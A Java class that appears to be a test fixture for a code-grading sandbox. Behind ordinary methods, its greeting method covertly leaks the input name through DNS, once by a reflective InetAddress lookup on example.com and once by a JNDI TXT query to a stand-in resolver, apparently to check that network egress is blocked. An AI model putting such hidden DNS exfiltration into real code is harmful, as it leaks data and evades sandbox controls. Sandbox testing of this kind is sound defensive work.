// Looks the hidden name up in the network, so that a name server hears it; answers wrongly only if one was there.
// expects: graded 10
// needs: walls
package attacked.target;

import java.net.InetAddress;
import java.util.Hashtable;
import javax.naming.NamingException;
import javax.naming.directory.InitialDirContext;

public final class TargetSolution implements Target {
    public double[] twice(double[] values) {
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        return heard(name) ? "heard " + name : "Hello, " + name;
    }

    private static boolean heard(String name) {
        try {
            InetAddress.class.getMethod("getByName", String.class).invoke(null, name + ".example.com");
            return true;
        } catch (ReflectiveOperationException stopped) {
            System.err.println(stopped);
        }
        Hashtable<String, String> settings = new Hashtable<>();
        settings.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
        settings.put("java.naming.provider.url", "dns://192.0.2.53");
        settings.put("com.sun.jndi.dns.timeout.initial", "100");
        settings.put("com.sun.jndi.dns.timeout.retries", "1");
        try {
            new InitialDirContext(settings).getAttributes(name + ".example.com", new String[] {"TXT"});
            return true;
        } catch (NamingException stopped) {
            System.err.println(stopped);
            return false;
        }
    }
}
